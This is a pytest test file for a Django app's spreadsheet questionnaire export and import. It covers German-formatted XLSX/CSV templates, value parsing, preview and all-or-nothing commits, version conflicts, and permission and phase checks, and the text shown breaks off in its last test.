"""Bulk questionnaire (DESIGN §4, §7): XLSX/CSV template, parsing, preview and all-or-nothing import."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils import translation

from indicators import questionnaire_io as qio
from indicators.models import Answer, Edition, Parameter
from indicators.questionnaire_io import COLUMNS, ImportRow, interpret_value, parse_questionnaire, questionnaire_import
from indicators.services import AnswerInput, answer_save
from tests.factories import AnswerFactory, ParameterFactory, UserFactory, cities_of, parameter, small_edition

Status = Answer.Status
Phase = Edition.Phase

KEYS = ["online-termine", "wartezeit", "smart-meter", "busse", "ladepunkte"]  # small_edition's order
NOT_IN_THIS_PHASE = "In dieser Phase der Ausgabe können Sie diese Antwort nicht ändern."
OWN_CITY_ONLY = "Sie können nur Antworten Ihrer eigenen Stadt bearbeiten."
EVIDENCE_URL = "https://stadt.example/nachweis.pdf"


# --- Fixtures and helpers ----------------------------------------------------------------------


@pytest.fixture
def colleague(city):
    return UserFactory(cities=[city])


@pytest.fixture
def recompute_requests(monkeypatch):
    """Edition ids passed to indicators.services.scores_recompute_enqueue (replaced by a recorder)."""
    calls = []
    monkeypatch.setattr("indicators.services.base.scores_recompute_enqueue", calls.append)
    return calls


def answer(edition, city, key, **fields) -> Answer:
    return AnswerFactory(parameter=parameter(edition, key), city=city, **fields)


def stored(city) -> dict[str, tuple]:
    """What the database holds for the city: key -> (bool, choice, number, url, note, as_of, status, version)."""
    return {
        a.parameter.key: (
            a.value_bool,
            a.value_choice,
            a.value_number,
            a.evidence_url,
            a.note,
            a.as_of,
            a.status,
            a.version,
        )
        for a in Answer.objects.filter(city=city).select_related("parameter")
    }


def outcomes(result) -> list[tuple]:
    return [(r.row_number, r.parameter_key, r.old_value, r.new_value, r.outcome, r.message) for r in result.rows]


def fill_xlsx(data: bytes, values: dict[str, dict[str, object]]) -> bytes:
    """The workbook with cells changed as a person would: {parameter key: {column: value}}."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for column, value in values.get(row[0].value, {}).items():
            row[COLUMNS.index(column)].value = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read_csv(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def fill_csv(text: str, values: dict[str, dict[str, str]]) -> bytes:
    """The CSV template re-saved as German Excel does (UTF-8 with BOM, `;`), with cells changed."""
    table = read_csv(text)
    for row in table[1:]:
        for column, value in values.get(row[0], {}).items():
            row[COLUMNS.index(column)] = value
    return csv_bytes(table)


def csv_bytes(table, delimiter: str = ";", encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(table)
    return buffer.getvalue().encode(encoding)


def run(user, edition, city, data: bytes, filename: str, *, confirm: bool):
    rows = parse_questionnaire(data, filename)
    return questionnaire_import(user=user, edition=edition, city=city, rows=rows, confirm=confirm)


def grow(edition: Edition, count: int) -> None:
    """`count` more yes/no parameters in the edition's last indicator."""
    indicator = parameter(edition, "ladepunkte").indicator
    for index in range(count):
        ParameterFactory(indicator=indicator, key=f"extra-{index:02d}", position=10 + index)


# --- The template ------------------------------------------------------------------------------


def test_questionnaire_rows_list_every_parameter_in_questionnaire_order_with_the_citys_answer(edition, city):
    # given
    wartezeit = answer(edition, city, "wartezeit", value_number=Decimal(10), version=3)
    answer(edition, cities_of(edition)[1], "busse", value_number=Decimal(50))  # another city's

    # when
    rows = qio.questionnaire_rows(edition=edition, city=city)

    # then
    assert [(r.parameter.key, r.answer, r.version, r.previous) for r in rows] == [
        ("online-termine", None, 0, None),
        ("wartezeit", wartezeit, 3, None),
        ("smart-meter", None, 0, None),
        ("busse", None, 0, None),
        ("ladepunkte", None, 0, None),
    ]


def test_questionnaire_rows_take_a_fixed_number_of_queries_for_5_and_40_parameters(db, django_assert_num_queries):
    # given: two editions with a previous published one each, answered in full, of 5 and 40 parameters
    cases = []
    for year, extra in ((2030, 0), (2040, 35)):
        before = small_edition(year=year - 1, phase=Phase.PUBLISHED, cities=0)
        current = small_edition(year=year, cities=1)
        grow(before, extra)
        grow(current, extra)
        city = cities_of(current)[0]
        for p in Parameter.objects.filter(indicator__domain__edition=current):
            AnswerFactory(parameter=p, city=city, **_valid(p))
        for p in Parameter.objects.filter(indicator__domain__edition=before):
            AnswerFactory(parameter=p, city=city, status=Status.APPROVED, **_valid(p))
        cases.append((current, city, 5 + extra))

    for current, city, count in cases:
        # when
        with django_assert_num_queries(4):
            rows = qio.questionnaire_rows(edition=current, city=city)
            cells = [row.cells(text=True) for row in rows]  # formatting reads nothing more

        # then
        assert (len(rows), sum(row.previous is not None for row in rows), len(cells)) == (count, count, count)


def _valid(p: Parameter) -> dict:
    if p.kind == Parameter.Kind.YES_NO:
        return {"value_bool": True}
    if p.kind == Parameter.Kind.CHOICE:
        return {"value_choice": "live"}
    return {"value_number": Decimal(10)}


def test_the_csv_template_opens_in_german_excel_with_semicolons_and_decimal_commas(edition, city):
    # given
    answer(
        edition,
        city,
        "wartezeit",
        value_number=Decimal("12.5"),
        evidence_url=EVIDENCE_URL,
        note="laut Bürgeramt; Stichprobe",
        as_of=date(2024, 3, 31),
        version=3,
    )
    answer(edition, city, "online-termine", value_bool=False, status=Status.SUBMITTED)
    answer(edition, city, "smart-meter", value_choice="planned", status=Status.APPROVED, version=2)
    names = {key: parameter(edition, key).name for key in KEYS}

    # when
    text = qio.questionnaire_csv(edition=edition, city=city)

    # then
    assert text.startswith("\ufeffparameter;themenbereich;indikator;name;typ;")
    assert text.splitlines(keepends=True)[0].endswith(";version;status\r\n")
    assert read_csv(text) == [
        list(COLUMNS),
        ["online-termine", "Verwaltung", "Serviceportal", names["online-termine"], "Ja/Nein", "", "ja | nein"]
        + ["", "nein", "", "", "", "1", "eingereicht"],
        ["wartezeit", "Verwaltung", "Serviceportal", names["wartezeit"], "Zahl", "Tage", "0–365"]
        + ["", "12,5", EVIDENCE_URL, "laut Bürgeramt; Stichprobe", "2024-03-31", "3", "Entwurf"],
        ["smart-meter", "Verwaltung", "Energie", names["smart-meter"], "Auswahl", ""]
        + ["keine | geplant | im Betrieb", "", "geplant", "", "", "", "2", "freigegeben"],
        ["busse", "Mobilität", "Verkehr", names["busse"], "Prozent", "%", "0–100"] + ["", "", "", "", "", "0", ""],
        ["ladepunkte", "Mobilität", "Verkehr", names["ladepunkte"], "Anzahl", "Ladepunkte", "≥ 0"]
        + ["", "", "", "", "", "0", ""],
    ]


def test_the_xlsx_template_has_a_bold_frozen_header_widths_pick_lists_and_typed_cells(edition, city):
    # given
    answer(
        edition,
        city,
        "wartezeit",
        value_number=Decimal("12.5"),
        note="=SUMME(A1)",  # typed by a person; must stay text, never become a formula
        as_of=date(2024, 3, 31),
        version=3,
    )
    answer(edition, city, "ladepunkte", value_number=Decimal(120))

    # when
    data = qio.questionnaire_xlsx(edition=edition, city=city)

    # then
    assert data.startswith(b"PK\x03\x04")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = sheet[1]
    assert [cell.value for cell in header] == list(COLUMNS)
    assert all(cell.font.bold for cell in header)
    assert sheet.freeze_panes == "B2"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["D"].width) == (28, 48)
    validations = {dv.formula1: str(dv.sqref) for dv in sheet.data_validations.dataValidation}
    assert validations == {'"ja,nein"': "I2", '"keine,geplant,im Betrieb"': "I4"}
    wartezeit = {name: cell for name, cell in zip(COLUMNS, sheet[3], strict=True)}
    assert (wartezeit["parameter"].value, wartezeit["wert"].value, wartezeit["version"].value) == ("wartezeit", 12.5, 3)
    assert (wartezeit["anmerkung"].value, wartezeit["anmerkung"].data_type) == ("=SUMME(A1)", "s")
    assert (wartezeit["stand"].value, wartezeit["stand"].number_format) == (datetime(2024, 3, 31), "DD.MM.YYYY")
    assert [sheet.cell(row, COLUMNS.index("wert") + 1).value for row in range(2, 7)] == [None, 12.5, None, None, 120]


def test_the_template_shows_last_years_approved_answer_of_the_same_parameter_key(edition, city):
    # given: 2029 published (the previous edition) and 2028 published before it
    before = small_edition(year=2029, phase=Phase.PUBLISHED, cities=0)
    older = small_edition(year=2028, phase=Phase.PUBLISHED, cities=0)
    answer(before, city, "busse", value_number=Decimal("42.5"), status=Status.APPROVED)
    answer(before, city, "online-termine", value_bool=True, status=Status.APPROVED)
    answer(before, city, "smart-meter", value_choice="live", status=Status.APPROVED)
    answer(before, city, "wartezeit", value_number=Decimal(9), status=Status.SUBMITTED)  # never approved
    answer(before, cities_of(edition)[1], "ladepunkte", value_number=Decimal(5), status=Status.APPROVED)
    answer(older, city, "ladepunkte", value_number=Decimal(7), status=Status.APPROVED)  # two years ago

    # when
    text = qio.questionnaire_csv(edition=edition, city=city)
    sheet = openpyxl.load_workbook(io.BytesIO(qio.questionnaire_xlsx(edition=edition, city=city))).worksheets[0]

    # then
    previous = COLUMNS.index("vorjahr")
    assert [row[previous] for row in read_csv(text)[1:]] == ["ja", "", "im Betrieb", "42,5", ""]
    assert [sheet.cell(row, previous + 1).value for row in range(2, 7)] == ["ja", None, "im Betrieb", 42.5, None]


# --- Round trips -------------------------------------------------------------------------------


def test_an_xlsx_round_trip_previews_every_row_as_will_save_and_writes_nothing(edition, city, staff):
    # given
    answer(edition, city, "wartezeit", value_number=Decimal(10), version=2)
    before, history = stored(city), Answer.history.count()
    data = fill_xlsx(
        qio.questionnaire_xlsx(edition=edition, city=city),
        {
            "online-termine": {"wert": "ja"},
            "wartezeit": {"wert": 12.5},
            "smart-meter": {"wert": "planned"},
            "busse": {"wert": 55.5, "quelle_url": EVIDENCE_URL, "stand": datetime(2024, 3, 31)},
            "ladepunkte": {"wert": 120},
        },
    )

    # when
    result = run(staff, edition, city, data, "fragebogen.xlsx", confirm=False)

    # then
    assert outcomes(result) == [
        (2, "online-termine", "—", "ja", "will_save", ""),
        (3, "wartezeit", "10 Tage", "12,5 Tage", "will_save", ""),
        (4, "smart-meter", "—", "geplant", "will_save", ""),
        (5, "busse", "—", "55,5 %", "will_save", ""),
        (6, "ladepunkte", "—", "120 Ladepunkte", "will_save", ""),
    ]
    assert (result.saved, result.confirmed, result.has_errors) == (0, False, False)
    assert [r.parameter_name for r in result.rows] == [parameter(edition, key).name for key in KEYS]
    assert stored(city) == before
    assert Answer.history.count() == history


def test_an_xlsx_round_trip_confirmed_stores_the_values_bumps_versions_and_records_the_user(edition, city, staff):
    # given
    answer(edition, city, "wartezeit", value_number=Decimal(10), version=2)
    data = fill_xlsx(
        qio.questionnaire_xlsx(edition=edition, city=city),
        {
            "online-termine": {"wert": "ja"},
            "wartezeit": {"wert": 12.5, "anmerkung": "Median"},
            "smart-meter": {"wert": "planned"},
            "busse": {"wert": 55.5, "quelle_url": EVIDENCE_URL, "stand": datetime(2024, 3, 31)},
            "ladepunkte": {"wert": 120},
        },
    )

    # when
    result = run(staff, edition, city, data, "fragebogen.xlsx", confirm=True)

    # then
    assert (result.saved, result.confirmed, [r.outcome for r in result.rows]) == (5, True, ["will_save"] * 5)
    assert stored(city) == {
        "online-termine": (True, "", None, "", "", None, "draft", 1),
        "wartezeit": (None, "", Decimal("12.5"), "", "Median", None, "draft", 3),
        "smart-meter": (None, "planned", None, "", "", None, "draft", 1),
        "busse": (None, "", Decimal("55.5"), EVIDENCE_URL, "", date(2024, 3, 31), "draft", 1),
        "ladepunkte": (None, "", Decimal(120), "", "", None, "draft", 1),
    }
    latest = {a.parameter.key: a.history.first() for a in Answer.objects.filter(city=city).select_related("parameter")}
    imported = "aus Datei importiert"
    assert {key: (r.history_user, r.version, r.history_change_reason) for key, r in latest.items()} == {
        "online-termine": (staff, 1, imported),
        "wartezeit": (staff, 3, imported),
        "smart-meter": (staff, 1, imported),
        "busse": (staff, 1, imported),
        "ladepunkte": (staff, 1, imported),
    }


def test_a_csv_round_trip_with_semicolons_and_decimal_commas_previews_then_imports(edition, city, staff):
    # given: the template re-saved by German Excel, with German spellings typed in
    answer(edition, city, "busse", value_number=Decimal(40), evidence_url=EVIDENCE_URL, version=4)
    data = fill_csv(
        qio.questionnaire_csv(edition=edition, city=city),
        {
            "online-termine": {"wert": "Nein"},
            "wartezeit": {"wert": "3,25", "stand": "31.03.2024"},
            "smart-meter": {"wert": "im Betrieb"},
            "busse": {"wert": "40,5"},
            "ladepunkte": {"wert": "1.234,0"},
        },
    )
    before = stored(city)

    # when
    preview = run(staff, edition, city, data, "fragebogen.csv", confirm=False)

    # then
    assert outcomes(preview) == [
        (2, "online-termine", "—", "nein", "will_save", ""),
        (3, "wartezeit", "—", "3,25 Tage", "will_save", ""),
        (4, "smart-meter", "—", "im Betrieb", "will_save", ""),
        (5, "busse", "40 %", "40,5 %", "will_save", ""),
        (6, "ladepunkte", "—", "1.234 Ladepunkte", "will_save", ""),
    ]
    assert stored(city) == before

    # when
    result = run(staff, edition, city, data, "fragebogen.csv", confirm=True)

    # then
    assert (result.saved, result.confirmed) == (5, True)
    assert stored(city) == {
        "online-termine": (False, "", None, "", "", None, "draft", 1),
        "wartezeit": (None, "", Decimal("3.25"), "", "", date(2024, 3, 31), "draft", 1),
        "smart-meter": (None, "live", None, "", "", None, "draft", 1),
        "busse": (None, "", Decimal("40.5"), EVIDENCE_URL, "", None, "draft", 5),
        "ladepunkte": (None, "", Decimal(1234), "", "", None, "draft", 1),
    }


def test_a_comma_delimited_csv_with_dot_decimals_imports_and_keeps_evidence_of_absent_columns(edition, city, staff):
    # given: a hand-made file with only the required columns
    answer(edition, city, "busse", value_number=Decimal(40), evidence_url=EVIDENCE_URL, note="VRR-Bericht")
    data = b"Parameter,Wert\r\nwartezeit,12.5\r\nbusse,55.75\r\n"

    # when
    result = run(staff, edition, city, data, "eigene.csv", confirm=True)

    # then
    assert outcomes(result) == [
        (2, "wartezeit", "—", "12,5 Tage", "will_save", ""),
        (3, "busse", "40 %", "55,75 %", "will_save", ""),
    ]
    assert result.saved == 2
    assert stored(city) == {
        "wartezeit": (None, "", Decimal("12.5"), "", "", None, "draft", 1),
        "busse": (None, "", Decimal("55.75"), EVIDENCE_URL, "VRR-Bericht", None, "draft", 2),
    }


def test_an_untouched_template_reports_every_row_unchanged_and_writes_nothing(edition, city, staff):
    # given
    answer(edition, city, "wartezeit", value_number=Decimal("12.5"), note="=SUMME(A1)", as_of=date(2024, 3, 31))
    answer(edition, city, "smart-meter", value_choice="live", evidence_url=EVIDENCE_URL, version=2)
    before, history = stored(city), Answer.history.count()

    for data, filename in (
        (qio.questionnaire_xlsx(edition=edition, city=city), "f.xlsx"),
        (qio.questionnaire_csv(edition=edition, city=city).encode("utf-8"), "f.csv"),
    ):
        # when
        result = run(staff, edition, city, data, filename, confirm=True)

        # then
        assert [(r.parameter_key, r.outcome) for r in result.rows] == [(key, "unchanged") for key in KEYS]
        assert (result.saved, result.confirmed) == (0, True)
        assert stored(city) == before
        assert Answer.history.count() == history


def test_editing_an_approved_answer_by_import_warns_and_recomputes_only_after_a_confirmed_commit(
    edition, city, staff, recompute_requests, django_capture_on_commit_callbacks
):
    # given
    answer(edition, city, "wartezeit", value_number=Decimal(10), status=Status.APPROVED, version=2)
    data = b"parameter;wert;version\r\nwartezeit;11;2\r\n"

    # when: a preview
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        preview = run(staff, edition, city, data, "f.csv", confirm=False)

    # then
    message = "Die Freigabe wird aufgehoben; die Antwort wird wieder ein Entwurf."
    assert outcomes(preview) == [(2, "wartezeit", "10 Tage", "11 Tage", "will_save", message)]
    assert (callbacks, recompute_requests) == ([], [])
    assert stored(city)["wartezeit"][6:] == ("approved", 2)

    # when: confirmed
    with django_capture_on_commit_callbacks(execute=True):
        result = run(staff, edition, city, data, "f.csv", confirm=True)

    # then
    assert (result.saved, recompute_requests) == (1, [edition.pk])
    assert stored(city)["wartezeit"][2:] == (Decimal(11), "", "", None, "draft", 3)


# --- Broken rows -------------------------------------------------------------------------------

VALID_ROWS = [
    ["online-termine", "ja", "", "", "0"],
    ["wartezeit", "12,5", "", "", "0"],
    ["smart-meter", "live", "", "", "0"],
]


@pytest.mark.parametrize(
    ("broken", "expected"),
    [
        (["busse", "150", "", "", "0"], [(5, "busse", "—", "150 %", "error", "Der Wert darf höchstens 100 % sein.")]),
        (["busse", "viel", "", "", "0"], [(5, "busse", "—", "viel", "error", "„viel“ ist keine Zahl.")]),
        (
            ["ladepunkte", "12,5", "", "", "0"],
            [(5, "ladepunkte", "—", "12,5 Ladepunkte", "error", "Eine Anzahl ist eine ganze Zahl.")],
        ),
        (
            ["smart-meter", "teilweise", "", "", "0"],
            [
                (
                    4,
                    "smart-meter",
                    "—",
                    "im Betrieb",
                    "error",
                    "Der Parameter „smart-meter“ steht mehrfach in der Datei (Zeilen 4, 5).",
                ),
                (
                    5,
                    "smart-meter",
                    "—",
                    "teilweise",
                    "error",
                    "Der Parameter „smart-meter“ steht mehrfach in der Datei (Zeilen 4, 5).",
                ),
            ],
        ),
        (
            ["ladepunkte", "vielleicht", "", "", "0"],
            [(5, "ladepunkte", "—", "vielleicht", "error", "„vielleicht“ ist keine Zahl.")],
        ),
        (
            ["unbekannt", "1", "", "", "0"],
            [(5, "unbekannt", "", "1", "error", "Den Parameter „unbekannt“ gibt es in dieser Ausgabe nicht.")],
        ),
        (
            ["busse", "50", "kein link", "", "0"],
            [(5, "busse", "—", "50 %", "error", "Gib eine gültige URL ein.")],
        ),
        (
            ["busse", "50", "", "31.02.2024", "0"],
            [(5, "busse", "—", "50 %", "error", "„31.02.2024“ ist kein Datum (TT.MM.JJJJ oder JJJJ-MM-TT).")],
        ),
        (["busse", "50", "", "", "neu"], [(5, "busse", "—", "50 %", "error", "„neu“ ist keine gültige Version.")]),
        (["", "50", "", "", "0"], [(5, "", "", "50", "error", "In dieser Zeile fehlt der Parameter.")]),
    ],
    ids=[
        "out-of-range",
        "not-a-number",
        "count-with-decimals",
        "duplicate",
        "word-for-count",
        "unknown-parameter",
        "bad-url",
        "bad-date",
        "bad-version",
        "no-parameter",
    ],
)
def test_a_broken_row_is_reported_with_its_message_and_nothing_of_the_file_is_written(
    edition, city, staff, broken, expected
):
    # given
    header = ["parameter", "wert", "quelle_url", "stand", "version"]
    data = csv_bytes([header, *VALID_ROWS, broken])

    # when
    preview = run(staff, edition, city, data, "f.csv", confirm=False)
    result = run(staff, edition, city, data, "f.csv", confirm=True)

    # then
    for outcome in (preview, result):
        errors = [row for row in outcomes(outcome) if row[4] == "error"]
        assert errors == expected
        valid = [row[1] for row in outcomes(outcome) if row[4] != "error"]
        assert valid == [key for key, *_ in VALID_ROWS if key not in {e[1] for e in expected}]
        assert all(row.outcome == "will_save" for row in outcome.rows if row.parameter_key in valid)
    assert (result.saved, result.confirmed, result.has_errors) == (0, False, True)
    assert (Answer.objects.count(), Answer.history.count()) == (0, 0)


def test_a_parameter_key_used_twice_in_the_edition_is_refused_not_guessed(edition, city, staff):
    # given: "busse" also in another indicator of the same edition (the schema allows it)
    ParameterFactory(indicator=parameter(edition, "online-termine").indicator, key="busse")

    # when
    result = run(staff, edition, city, b"parameter;wert\r\nbusse;50\r\n", "f.csv", confirm=True)

    # then
    assert outcomes(result) == [
        (2, "busse", "", "50", "error", "Der Schlüssel „busse“ ist in dieser Ausgabe nicht eindeutig.")
    ]
    assert Answer.objects.count() == 0


def test_a_stale_file_conflicts_when_someone_saved_the_answer_after_the_export(edition, city, staff, colleague):
    # given: exported at version 1, then a colleague saves the answer (version 2)
    answer(edition, city, "wartezeit", value_number=Decimal(10))
    template = qio.questionnaire_xlsx(edition=edition, city=city)
    answer_save(
        user=colleague,
        city=city,
        parameter=parameter(edition, "wartezeit"),
        data=AnswerInput(value="20"),
        expected_version=1,
    )
    data = fill_xlsx(template, {"wartezeit": {"wert": 15}, "online-termine": {"wert": "ja"}})
    before = stored(city)

    # when
    result = run(staff, edition, city, data, "f.xlsx", confirm=True)

    # then
    assert outcomes(result) == [
        (2, "online-termine", "—", "ja", "will_save", ""),
        (3, "wartezeit", "20 Tage", "15 Tage", "error", "Die Antwort wurde inzwischen geändert (aktuell: 20 Tage)."),
        (4, "smart-meter", "—", "—", "unchanged", ""),
        (5, "busse", "—", "—", "unchanged", ""),
        (6, "ladepunkte", "—", "—", "unchanged", ""),
    ]
    assert (result.saved, result.confirmed) == (0, False)
    assert stored(city) == before
    assert before["wartezeit"][2:] == (Decimal(20), "", "", None, "draft", 2)


def test_rows_a_colleague_changed_after_the_export_but_the_file_leaves_alone_are_skipped(
    edition, city, staff, colleague
):
    # given: exported; then a colleague changes wartezeit (v1 -> v2) and answers smart-meter (new)
    answer(edition, city, "wartezeit", value_number=Decimal(10))
    template = qio.questionnaire_csv(edition=edition, city=city)
    for key, value, version in (("wartezeit", "20", 1), ("smart-meter", "live", 0)):
        answer_save(
            user=colleague,
            city=city,
            parameter=parameter(edition, key),
            data=AnswerInput(value=value),
            expected_version=version,
        )
    data = fill_csv(template, {"online-termine": {"wert": "ja"}})

    # when
    result = run(staff, edition, city, data, "f.csv", confirm=True)

    # then
    skipped = (
        "Inzwischen von jemand anderem geändert (aktuell: %s); die Zeile der Datei ändert nichts und wird übersprungen."
    )
    assert outcomes(result) == [
        (2, "online-termine", "—", "ja", "will_save", ""),
        (3, "wartezeit", "20 Tage", "10 Tage", "unchanged", skipped % "20 Tage"),
        (4, "smart-meter", "im Betrieb", "—", "unchanged", skipped % "im Betrieb"),
        (5, "busse", "—", "—", "unchanged", ""),
        (6, "ladepunkte", "—", "—", "unchanged", ""),
    ]
    assert result.saved == 1
    current = stored(city)
    assert (current["wartezeit"][2], current["wartezeit"][7]) == (Decimal(20), 2)
    assert (current["smart-meter"][1], current["smart-meter"][7]) == ("live", 1)
    assert current["online-termine"][0] is True


# --- Permissions and phases --------------------------------------------------------------------


def test_staff_of_another_city_cannot_preview_or_import_and_nothing_is_written(edition, city):
    # given
    outsider = UserFactory(cities=[cities_of(edition)[1]])
    data = b"parameter;wert\r\nwartezeit;12\r\n"

    for confirm in (False, True):
        # when
        with pytest.raises(PermissionDenied) as error:
            run(outsider, edition, city, data, "f.csv", confirm=confirm)

        # then
        assert str(error.value) == OWN_CITY_ONLY
    assert Answer.objects.count() == 0


def test_in_review_only_answers_sent_back_can_be_imported(edition, city, staff):
    # given: an edition in review with one answer sent back, one submitted, one approved
    edition.phase = Phase.REVIEW
    edition.save()
    answer(edition, city, "wartezeit", value_number=Decimal(10), status=Status.CHANGES_REQUESTED, version=3)
    answer(edition, city, "busse", value_number=Decimal(40), evidence_url=EVIDENCE_URL, status=Status.SUBMITTED)
    answer(edition, city, "smart-meter", value_choice="none", status=Status.APPROVED, version=2)
    header = ["parameter", "wert", "version"]
    everything = csv_bytes(
        [
            header,
            ["wartezeit", "12", "3"],
            ["busse", "45", "1"],
            ["smart-meter", "live", "2"],
            ["online-termine", "ja", "0"],
        ]
    )
    before = stored(city)

    # when
    result = run(staff, edition, city, everything, "f.csv", confirm=True)

    # then
    assert outcomes(result) == [
        (2, "wartezeit", "10 Tage", "12 Tage", "will_save", ""),
        (3, "busse", "40 %", "45 %", "error", NOT_IN_THIS_PHASE),
        (4, "smart-meter", "keine", "im Betrieb", "error", NOT_IN_THIS_PHASE),
        (5, "online-termine", "—", "ja", "error", NOT_IN_THIS_PHASE),
    ]
    assert (result.saved, stored(city)) == (0, before)

    # when: only the answer sent back
    result = run(staff, edition, city, csv_bytes([header, ["wartezeit", "12", "3"]]), "f.csv", confirm=True)

    # then
    assert result.saved == 1
    assert stored(city)["wartezeit"][2:] == (Decimal(12), "", "", None, "draft", 4)


@pytest.fixture
def published(db):
    return small_edition(year=2031, phase=Phase.PUBLISHED)


def test_in_a_published_edition_every_changed_row_is_an_error(published):
    # given
    city = cities_of(published)[0]
    staff = UserFactory(cities=[city])
    answer(published, city, "wartezeit", value_number=Decimal(10), status=Status.APPROVED)
    data = csv_bytes([["parameter", "wert"], ["wartezeit", "12"], ["online-termine", "ja"], ["busse", ""]])

    # when
    result = run(staff, published, city, data, "f.csv", confirm=True)

    # then
    assert outcomes(result) == [
        (2, "wartezeit", "10 Tage", "12 Tage", "error", NOT_IN_THIS_PHASE),
        (3, "online-termine", "—", "ja", "error", NOT_IN_THIS_PHASE),
        (4, "busse", "—", "—", "unchanged", ""),
    ]
    assert result.saved == 0
    assert stored(city)["wartezeit"][2:] == (Decimal(10), "", "", None, "approved", 1)


def test_a_submitted_answer_cannot_be_changed_by_import_while_collecting(edition, city, staff):
    answer(edition, city, "busse", value_number=Decimal(40), evidence_url=EVIDENCE_URL, status=Status.SUBMITTED)

    result = run(staff, edition, city, b"parameter;wert\r\nbusse;45\r\n", "f.csv", confirm=True)

    assert outcomes(result) == [
        (2, "busse", "40 %", "45 %", "error", "Die Antwort ist eingereicht und wird gerade geprüft.")
    ]
    assert stored(city)["busse"][2] == Decimal(40)


# --- Reading files -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "missing"),
    [
        ("parameter;quelle_url;anmerkung", "wert"),
        ("name;wert", "parameter"),
        ("name;typ", "parameter, wert"),
    ],
)
def test_a_header_without_a_required_column_is_refused_naming_the_missing_columns(header, missing):
    data = f"{header}\r\nwartezeit;12;x\r\n".encode()

    with pytest.raises(ValidationError) as error:
        parse_questionnaire(data, "f.csv")

    assert error.value.messages == [f"In der Kopfzeile fehlen die Spalten: {missing}."]


def test_the_header_is_matched_in_any_order_and_case_and_unknown_columns_are_ignored():
    data = b"Bemerkung;WERT;Stand; Parameter \r\negal;12,5;31.03.2024;wartezeit\r\n"

    rows = parse_questionnaire(data, "f.csv")

    assert rows == [
        ImportRow(row_number=2, parameter_key="wartezeit", value="12,5", as_of="31.03.2024"),
    ]


def test_a_doubled_column_is_refused():
    with pytest.raises(ValidationError) as error:
        parse_questionnaire(b"parameter;wert;wert\r\nwartezeit;1;2\r\n", "f.csv")

    assert error.value.messages == ["Die Spalte „wert“ steht mehrfach in der Kopfzeile."]


def test_blank_rows_are_skipped_and_rows_keep_their_numbers_in_csv_and_xlsx():
    # given
    table = [["parameter", "wert", "anmerkung"], ["wartezeit", "1", ""], ["", "", " "], [], ["busse", "2", "a\nb"]]
    table.append(["ladepunkte", "3", ""])
    workbook = openpyxl.Workbook()
    for number, row in enumerate(table, start=1):
        for column, value in enumerate(row, start=1):
            workbook.active.cell(number, column, value or None)
    buffer = io.BytesIO()
    workbook.save(buffer)

    for data, filename in ((csv_bytes(table), "f.csv"), (buffer.getvalue(), "f.xlsx")):
        # when
        rows = parse_questionnaire(data, filename)

        # then: the note with a line break is one row, as in Excel
        assert [(r.row_number, r.parameter_key, str(r.value), r.note) for r in rows] == [
            (2, "wartezeit", "1", ""),
            (5, "busse", "2", "a\nb"),
            (6, "ladepunkte", "3", ""),
        ]


def test_a_csv_saved_by_excel_in_windows_1252_is_read():
    data = "parameter;wert;anmerkung\r\nwartezeit;12;Größe geprüft\r\n".encode("cp1252")

    assert parse_questionnaire(data, "f.csv") == [
        ImportRow(row_number=2, parameter_key="wartezeit", value="12", note="Größe geprüft")
    ]


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "f.csv", "Die Datei ist leer."),
        (b"\r\n \r\n", "f.csv", "Die Datei ist leer."),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
            "f.xls",
            "Die Datei ist keine gültige XLSX-Datei. Bitte als Excel-Arbeitsmappe (.xlsx) oder CSV speichern.",
        ),
        (b"PK\x03\x04 not really a workbook", "f.xlsx", "Die Datei ist keine gültige XLSX-Datei."),
        (b"\x00\x01\x02binary", "f.csv", "Die Datei ist weder eine XLSX- noch eine CSV-Datei."),
    ],
    ids=["empty", "blank", "old-xls", "broken-zip", "binary"],
)
def test_a_file_that_is_not_a_readable_template_is_refused_with_a_message(data, filename, message):
    with pytest.raises(ValidationError) as error:
        parse_questionnaire(data, filename)

    assert error.value.messages == [message]


# --- Spellings a person may type -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "cell", "expected"),
    [
        ("online-termine", "Ja", {"value_bool": True}),
        ("online-termine", "nein", {"value_bool": False}),
        ("online-termine", "yes", {"value_bool": True}),
        ("online-termine", "NO", {"value_bool": False}),
        ("online-termine", "1", {"value_bool": True}),
        ("online-termine", "0", {"value_bool": False}),
        ("online-termine", True, {"value_bool": True}),
        ("online-termine", 0, {"value_bool": False}),
        ("online-termine", 1.0, {"value_bool": True}),
        ("smart-meter", "live", {"value_choice": "live"}),
        ("smart-meter", "im Betrieb", {"value_choice": "live"}),
        ("smart-meter", "Geplant", {"value_choice": "planned"}),
        ("smart-meter", "NONE", {"value_choice": "none"}),
        ("wartezeit", "12,5", {"value_number": Decimal("12.5")}),
        ("wartezeit", "12.5", {"value_number": Decimal("12.5")}),
        ("wartezeit", "12 Tage", {"value_number": Decimal(12)}),
        ("wartezeit", 12.5, {"value_number": Decimal("12.5")}),
        ("wartezeit", 7, {"value_number": Decimal(7)}),
        ("busse", "55,5 %", {"value_number": Decimal("55.5")}),
        ("busse", 0.1 + 0.2, {"value_number": Decimal("0.3")}),
        ("ladepunkte", "1.234,0", {"value_number": Decimal(1234)}),
        ("ladepunkte", "2.000.000", {"value_number": Decimal(2000000)}),
        ("ladepunkte", "1,234.0", {"value_number": Decimal(1234)}),
    ],
)
def test_values_are_understood_in_the_spellings_people_and_spreadsheets_use(edition, city, staff, key, cell, expected):
    # given
    rows = [ImportRow(row_number=2, parameter_key=key, value=cell)]

    # when
